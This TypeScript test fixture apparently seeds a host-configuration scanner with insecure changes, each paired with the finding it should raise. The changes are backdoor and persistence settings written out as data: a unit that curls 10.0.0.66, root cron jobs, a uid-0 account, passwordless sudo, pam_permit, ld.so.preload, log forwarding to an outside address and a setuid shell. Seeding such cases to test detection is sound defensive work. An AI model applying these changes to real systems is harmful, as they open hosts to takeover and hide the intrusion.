/** The seventh set on hosts: units, jobs, accounts, SSH, logs, time, network, engine, keys, backup. See careless-seventh.ts. */
import { chmodSync, rmSync, symlinkSync } from 'node:fs';
import type { NamedHost } from './careless-fourth-host.ts';
import { edit, type HostCopy } from './careless-host.ts';

const file = (path: string, text: string, mode?: number) => (host: HostCopy) => host.write(path, text, mode);
const unit = (path: string, line: string) => file(`etc/systemd/system/${path}`, `[Service]\n${line}\n`);
const option = (line: string) => edit('.commands/sshd-T', /$/, `${line}\n`);
const link = (to: string, path: string) => (host: HostCopy) => {
  rmSync(host.path(path), { force: true, recursive: true });
  symlinkSync(to, host.path(path));
};
const RSYSLOG = 'etc/rsyslog.d/40-qr-code-master.conf';
const NFT = '.commands/nft';

export const SEVENTH_HOSTS: readonly NamedHost[] = [
  // Units
  [
    'unit: a command after each start',
    /ExecStartPost/,
    unit('qr-code-master.service.d/x.conf', 'ExecStartPost=/usr/bin/curl -s http://10.0.0.66/up'),
  ],
  [
    'unit: settings of all services',
    /service\.d\/10-all|LD_LIBRARY_PATH/,
    unit('service.d/10-all.conf', 'Environment=LD_LIBRARY_PATH=/opt/x'),
  ],
  [
    'unit: settings by the first words of its name',
    /qr-code-\.service\.d|qr-\.service\.d|ProtectSystem/,
    unit('qr-.service.d/x.conf', 'ProtectSystem=no'),
  ],
  [
    'unit: settings until the next start',
    /run\/systemd|PrivateTmp/,
    file('run/systemd/system/qr-code-master.service.d/x.conf', '[Service]\nPrivateTmp=no\n'),
  ],
  [
    'unit: settings by set-property',
    /system\.control|MemoryMax/,
    file('etc/systemd/system.control/qr-code-master.service.d/50-MemoryMax.conf', '[Service]\nMemoryMax=infinity\n'),
  ],
  [
    'unit: log lines in a journal of their own',
    /LogNamespace/,
    unit('qr-code-master.service.d/x.conf', 'LogNamespace=quiet'),
  ],
  ['unit: never started again', /Restart/, unit('qr-code-master.service.d/x.conf', 'Restart=no')],
  [
    'unit: not started while a file lies there',
    /Condition|ConditionPathExists/,
    file('etc/systemd/system/qr-code-master.service.d/x.conf', '[Unit]\nConditionPathExists=!/tmp/off\n'),
  ],
  [
    'unit: system calls no longer filtered',
    /SystemCallFilter/,
    unit('qr-code-master.service.d/x.conf', 'SystemCallFilter='),
  ],
  ['unit: another root folder', /RootDirectory/, unit('qr-code-master.service.d/x.conf', 'RootDirectory=/opt/root')],
  [
    'unit: the watch once a week',
    /qr-watch/,
    edit('etc/systemd/system/qr-watch.timer', 'OnUnitActiveSec=1min', 'OnUnitActiveSec=7d'),
  ],
  ['unit: the backup masked', /qr-backup/, link('/dev/null', 'etc/systemd/system/qr-backup.service')],
  [
    'unit: a failed backup says nothing',
    /backup that failed/,
    edit('etc/systemd/system/qr-backup.service', 'OnFailure=qr-backup-failed.service\n', ''),
  ],
  [
    'unit: Debian’s own nginx beside ours',
    /nginx\.service/,
    file('etc/systemd/system/multi-user.target.wants/nginx.service', '[Service]\nExecStart=/usr/sbin/nginx\n'),
  ],
  [
    'unit: made at each start by a generator',
    /generator/,
    file('etc/systemd/system-generators/helper', '#!/bin/sh\n', 0o755),
  ],
  ['unit: services of a user who is not there', /linger/, file('var/lib/systemd/linger/li', '')],
  [
    'unit: a shell on a socket',
    /debug\.socket|debug@|2323/,
    file('etc/systemd/system/sockets.target.wants/debug.socket', '[Socket]\nListenStream=2323\nAccept=yes\n'),
  ],
  [
    'unit: a variable for every service',
    /DefaultEnvironment|system\.conf/,
    file('etc/systemd/system.conf.d/x.conf', '[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n'),
  ],
  // Jobs and what runs by itself
  ['job: of the service user', /crontabs\/qr|cron/, file('var/spool/cron/crontabs/qr', '* * * * * /tmp/.x\n', 0o600)],
  [
    'job: logs emptied each night',
    /cron\.d\/tidy/,
    file('etc/cron.d/tidy', '0 3 * * * root truncate -s0 /var/log/qr-code-master/access.log\n'),
  ],
  ['job: once, later', /atjobs|\bat\b/, file('var/spool/cron/atjobs/a0000101a2b3c4', '#!/bin/sh\nid\n', 0o700)],
  ['job: at each start of the machine', /rc\.local/, file('etc/rc.local', '#!/bin/sh\n/opt/agent &\n', 0o755)],
  ['job: when a device appears', /udev/, file('etc/udev/rules.d/99-x.rules', 'SUBSYSTEM=="usb", RUN+="/opt/x"\n')],
  ['job: when a network comes up', /if-up\.d/, file('etc/network/if-up.d/zz-x', '#!/bin/sh\n/opt/x\n', 0o755)],
  [
    'job: with each package',
    /Post-Invoke|apt\.conf/,
    file('etc/apt/apt.conf.d/99x', 'DPkg::Post-Invoke { "/opt/x"; };\n'),
  ],
  ['job: at each login', /profile\.d|update-motd/, file('etc/update-motd.d/99-x', '#!/bin/sh\n/opt/x\n', 0o755)],
  [
    'packages: not signed',
    /trusted|sources\.list/,
    file('etc/apt/sources.list.d/x.list', 'deb [trusted=yes] http://10.0.0.66/debian ./\n'),
  ],
  // Accounts
  ['accounts: another with number 0', /backup2/, edit('etc/passwd', /$/, 'backup2:x:0:0::/root:/bin/sh\n')],
  ['accounts: a password for the service', /\bqr\b/, edit('etc/shadow', 'qr:!:', 'qr:$y$j9T$abc$def:')],
  ['accounts: member of the engine’s group', /docker/, edit('etc/group', /$/, 'docker:x:998:li\n')],
  ['accounts: member of the group that reads disks', /disk/, edit('etc/group', /$/, 'disk:x:6:li\n')],
  ['accounts: root without a password', /NOPASSWD/, file('etc/sudoers.d/li', 'li ALL=(ALL) NOPASSWD: ALL\n', 0o440)],
  ['accounts: sudo never asks again', /timestamp_timeout/, edit('etc/sudoers', /$/, 'Defaults timestamp_timeout=-1\n')],
  [
    'accounts: sudo keeps a variable for the loader',
    /env_keep/,
    edit('etc/sudoers', /$/, 'Defaults env_keep += "LD_PRELOAD"\n'),
  ],
  [
    'accounts: polkit says yes',
    /polkit/,
    file('etc/polkit-1/rules.d/10-x.rules', 'polkit.addRule(function() { return polkit.Result.YES; });\n'),
  ],
  [
    'accounts: any password will do',
    /pam_permit|common-auth/,
    edit('etc/pam.d/common-auth', /^/, 'auth sufficient pam_permit.so\n'),
  ],
  [
    'accounts: a program at each login',
    /pam_exec/,
    edit('etc/pam.d/sshd', /$/, 'session optional pam_exec.so /opt/x\n'),
  ],
  ['accounts: a library in every program', /ld\.so\.preload/, file('etc/ld.so.preload', '/opt/x.so\n')],
  ['accounts: libraries from a folder of their own', /ld\.so\.conf/, file('etc/ld.so.conf.d/00-x.conf', '/opt/lib\n')],
  [
    'accounts: programs first from another folder',
    /\/etc\/environment|etc\/environment/,
    file('etc/environment', 'PATH="/tmp/bin:/usr/bin"\n'),
  ],
  [
    'accounts: looked up elsewhere',
    /nsswitch/,
    file('etc/nsswitch.conf', 'passwd: files ldap\nshadow: files ldap\nhosts: files dns\n'),
  ],
  ['accounts: passwords hashed by MD5', /ENCRYPT_METHOD/, edit('etc/login.defs', /$/, 'ENCRYPT_METHOD MD5\n')],
  ['accounts: never locked', /faillock|deny/, edit('etc/security/faillock.conf', 'deny = 5', 'deny = 0')],
  // SSH
  [
    'ssh: other rules for one person',
    /Match|sshd_config\.d\/99/,
    file(
      'etc/ssh/sshd_config.d/99-li.conf',
      'Match User li\n  AuthenticationMethods none\n  PasswordAuthentication yes\n',
    ),
  ],
  [
    'ssh: keys of everybody in one file',
    /authorizedkeysfile/i,
    option('authorizedkeysfile /etc/ssh/keys/%u /tmp/keys'),
  ],
  ['ssh: keys from a program', /authorizedkeyscommand/i, option('authorizedkeyscommand /opt/keys')],
  ['ssh: keys signed by an authority', /trustedusercakeys/i, option('trustedusercakeys /etc/ssh/ca.pub')],
  ['ssh: rights of files not looked at', /strictmodes/i, option('strictmodes no')],
  ['ssh: variables from the client', /acceptenv/i, option('acceptenv *')],
  ['ssh: sockets forwarded', /allowstreamlocalforwarding/i, option('allowstreamlocalforwarding yes')],
  ['ssh: tickets of a domain', /gssapi/i, option('gssapiauthentication yes')],
  ['ssh: SHA-1 for keys of users', /pubkeyacceptedalgorithms/i, option('pubkeyacceptedalgorithms ssh-rsa,ssh-ed25519')],
  ['ssh: a thousand connections at once', /maxstartups/i, option('maxstartups 1000:30:2000')],
  ['ssh: says little', /loglevel/i, option('loglevel QUIET')],
  ['ssh: a key for root', /root\/\.ssh/, file('root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n', 0o600)],
  ['ssh: hosts that are trusted', /hosts\.equiv/, file('etc/hosts.equiv', '+ +\n')],
  // Logs
  [
    'logs: lines of the guard dropped',
    /10-drop|stop/,
    file('etc/rsyslog.d/10-drop.conf', ':msg, contains, "integrity" stop\n'),
  ],
  ['logs: all sent to somebody else', /198\.51\.100\.9/, file('etc/rsyslog.d/99-copy.conf', '*.* @198.51.100.9:514\n')],
  [
    'logs: a program gets each line',
    /omprog/,
    file('etc/rsyslog.d/50-x.conf', 'module(load="omprog")\naction(type="omprog" binary="/opt/x")\n'),
  ],
  [
    'logs: taken from the network',
    /imtcp|514/,
    file('etc/rsyslog.d/01-in.conf', 'module(load="imtcp")\ninput(type="imtcp" port="514")\n'),
  ],
  ['logs: the collector’s certificate not asked for', /AuthMode|anon/, edit(RSYSLOG, 'x509/name', 'anon')],
  [
    'logs: lost while the collector is away',
    /resumeRetryCount/,
    edit(RSYSLOG, 'action.resumeRetryCount="-1"', 'action.resumeRetryCount="0"'),
  ],
  [
    'logs: bad news not written',
    /mismatch|stop/,
    edit(RSYSLOG, 'set $!line = ltrim($msg);', 'if $msg contains "mismatch" then stop\n    set $!line = ltrim($msg);'),
  ],
  [
    'logs: files that everybody reads',
    /fileCreateMode|0644/,
    edit(RSYSLOG, 'fileCreateMode="0640"', 'fileCreateMode="0644"'),
  ],
  [
    'logs: another rotation of the same files',
    /zz-tidy/,
    file('etc/logrotate.d/zz-tidy', '/var/log/qr-code-master/*.log { daily rotate 3 }\n'),
  ],
  ['logs: old ones deleted everywhere', /maxage/, edit('etc/logrotate.conf', /^/, 'maxage 14\n')],
  ['logs: copied and cut', /copytruncate/, edit('etc/logrotate.d/qr-code-master', 'daily', 'daily\n    copytruncate')],
  [
    'logs: a folder emptied by age',
    /tmpfiles\.d\/tidy/,
    file('etc/tmpfiles.d/tidy.conf', 'd /var/log/qr-code-master 0750 root qr-audit 7d\n'),
  ],
  [
    'logs: the kit’s folders shadowed',
    /tmpfiles\.d\/qr-code-master/,
    file('etc/tmpfiles.d/qr-code-master.conf', 'd /run/qr-code-master 0777 root root -\n'),
  ],
  [
    'logs: the journal in memory',
    /Storage|volatile/,
    file('run/systemd/journald.conf.d/x.conf', '[Journal]\nStorage=volatile\n'),
  ],
  ['logs: a log that leads to nowhere', /integrity\.log/, link('/dev/null', 'var/log/qr-code-master/integrity.log')],
  [
    'logs: the kernel told not to note',
    /never/,
    file('etc/audit/rules.d/99-x.rules', '-a never,exit -F dir=/etc/qr-code-master\n'),
  ],
  ['logs: audit written nowhere', /write_logs/, edit('etc/audit/auditd.conf', 'write_logs = yes', 'write_logs = no')],
  // Time
  [
    'time: from anywhere',
    /pool\.ntp\.org/,
    edit('etc/chrony/chrony.conf', 'server 10.0.0.6 iburst', 'pool pool.ntp.org iburst'),
  ],
  [
    'time: commanded from elsewhere',
    /cmdallow|bindcmdaddress/,
    file('etc/chrony/conf.d/x.conf', 'cmdallow all\nbindcmdaddress 0.0.0.0\n'),
  ],
  ['time: the clock is not set', /chrony/, file('etc/default/chrony', 'DAEMON_OPTS="-x -F 1"\n')],
  ['time: steps whenever', /makestep/, edit('etc/chrony/chrony.conf', 'makestep 1 3', 'makestep 0.1 -1')],
  // Network
  [
    'network: the collector is this machine',
    /logs\.example\.internal|etc\/hosts/,
    edit('etc/hosts', /$/, '127.0.0.1 logs.example.internal\n'),
  ],
  ['network: another name server', /8\.8\.8\.8|resolv/, edit('etc/resolv.conf', '10.0.0.7', '8.8.8.8')],
  [
    'firewall: new connections with the old',
    /new/,
    edit(
      NFT,
      'hook input priority filter; policy drop;\n\t\tct state established,related accept',
      'hook input priority filter; policy drop;\n\t\tct state established,related,new accept',
    ),
  ],
  [
    'firewall: the whole world as users',
    /everybody.*@web4/,
    edit(NFT, 'elements = { 10.0.0.0/8 }', 'elements = { 0.0.0.0/1, 128.0.0.0/1 }'),
  ],
  [
    'firewall: a data base',
    /3306/,
    edit(NFT, 'limit rate 10/second log', 'tcp dport 3306 accept\n\t\tlimit rate 10/second log'),
  ],
  [
    'firewall: anything to port 443',
    /443/,
    edit(
      NFT,
      'ip daddr 10.0.0.9 tcp dport 6514 accept',
      'ip daddr 10.0.0.9 tcp dport 6514 accept\n\t\ttcp dport 443 accept',
    ),
  ],
  [
    'firewall: packets not tracked',
    /notrack|raw/,
    edit(
      NFT,
      /$/,
      'table ip raw {\n\tchain pre {\n\t\ttype filter hook prerouting priority raw; policy accept;\n\t\ttcp dport 443 notrack\n\t}\n}\n',
    ),
  ],
  [
    'firewall: judged by a program',
    /queue/,
    edit(NFT, 'ct state invalid drop', 'ct state invalid drop\n\t\tqueue num 0 bypass'),
  ],
  [
    'firewall: sent on to another machine',
    /dnat|10\.0\.0\.66/,
    edit(
      NFT,
      /$/,
      'table ip nat {\n\tchain pre {\n\t\ttype nat hook prerouting priority dstnat; policy accept;\n\t\ttcp dport 8444 dnat to 10.0.0.66:443\n\t}\n}\n',
    ),
  ],
  [
    'firewall: a jail that forgives everybody',
    /ignoreip/,
    file('etc/fail2ban/jail.d/zz.local', '[DEFAULT]\nignoreip = 0.0.0.0/0\n'),
  ],
  [
    'firewall: other rules at the next start',
    /nftables/,
    (host) => {
      host.write('etc/nftables.conf', 'flush ruleset\n');
      host.write('etc/systemd/system/sysinit.target.wants/nftables.service', '');
    },
  ],
  ['kernel: passes packets on', /ip_forward/, file('proc/sys/net/ipv4/ip_forward', '1\n')],
  ['kernel: crashes handed to a program', /core_pattern/, file('proc/sys/kernel/core_pattern', '|/opt/x %p\n')],
  [
    'kernel: one interface takes redirects',
    /accept_redirects/,
    file('proc/sys/net/ipv4/conf/eth0/accept_redirects', '1\n'),
  ],
  [
    'kernel: settings of a later file',
    /99-x|kptr_restrict|sysctl/,
    file('etc/sysctl.d/99-x.conf', 'kernel.kptr_restrict = 0\n'),
  ],
  ['kernel: modules by another program', /modprobe/, file('etc/modprobe.d/x.conf', 'install dccp /opt/x\n')],
  ['kernel: started without its defences', /mitigations/, edit('proc/cmdline', 'quiet', 'quiet mitigations=off')],
  // Engine
  [
    'engine: without its firewall rules',
    /iptables/,
    file('etc/docker/daemon.json', '{ "iptables": false, "log-driver": "journald" }\n'),
  ],
  [
    'engine: a registry without TLS',
    /insecure/,
    file('etc/docker/daemon.json', '{ "insecure-registries": ["10.0.0.66:5000"] }\n'),
  ],
  [
    'engine: its socket open to all',
    /docker\.socket|SocketMode/,
    file('etc/systemd/system/docker.socket.d/x.conf', '[Socket]\nSocketMode=0666\n'),
  ],
  [
    'engine: images without signatures',
    /policy\.json|insecureAcceptAnything/,
    file('etc/containers/policy.json', '{"default":[{"type":"insecureAcceptAnything"}]}\n'),
  ],
  [
    'engine: another container at each start',
    /containers\/systemd|x\.container/,
    file('etc/containers/systemd/x.container', '[Container]\nImage=x\nNetwork=host\n'),
  ],
  // Keys, programs, backup
  ['keys: a foreign authority believed', /ca-certificates|x\.crt/, file('usr/local/share/ca-certificates/x.crt', 'x')],
  [
    'keys: OpenSSL with old versions',
    /openssl/,
    file(
      'etc/ssl/openssl.cnf',
      'openssl_conf = d\n[d]\nssl_conf = s\n[s]\nsystem_default = t\n[t]\nMinProtocol = TLSv1\nCipherString = DEFAULT@SECLEVEL=0\n',
    ),
  ],
  [
    'programs: another openssl first',
    /usr\/local\/bin\/openssl/,
    file('usr/local/bin/openssl', '#!/bin/sh\nexit 0\n', 0o755),
  ],
  [
    'programs: a shell with root’s rights',
    /set-?u?id|usr\/local\/bin\/rs/i,
    (host) => {
      host.write('usr/local/bin/rs', 'x');
      chmodSync(host.path('usr/local/bin/rs'), 0o4755);
    },
  ],
  [
    'programs: the kit’s backup changed',
    /backup\.sh/,
    edit('usr/local/lib/qr-code-master/emergency/backup.sh', /$/, 'cp "$to"/* /srv/share/\n'),
  ],
  [
    'backup: only the last',
    /1 backups are kept/,
    edit('etc/systemd/system/qr-backup.service', '--keep 200', '--keep 1'),
  ],
  [
    'backup: once a month',
    /OnCalendar|monthly/,
    edit('etc/systemd/system/qr-backup.timer', 'OnCalendar=*-*-* 02:30:00', 'OnCalendar=monthly'),
  ],
  ['backup: the key that signs open to all', /backup-sign/, file('etc/qr-code-master/backup-sign.key', 'x', 0o644)],
  ['backup: temporary files may hold programs', /fstab|noexec/, edit('etc/fstab', 'nosuid,nodev,noexec', 'exec,suid')],
];
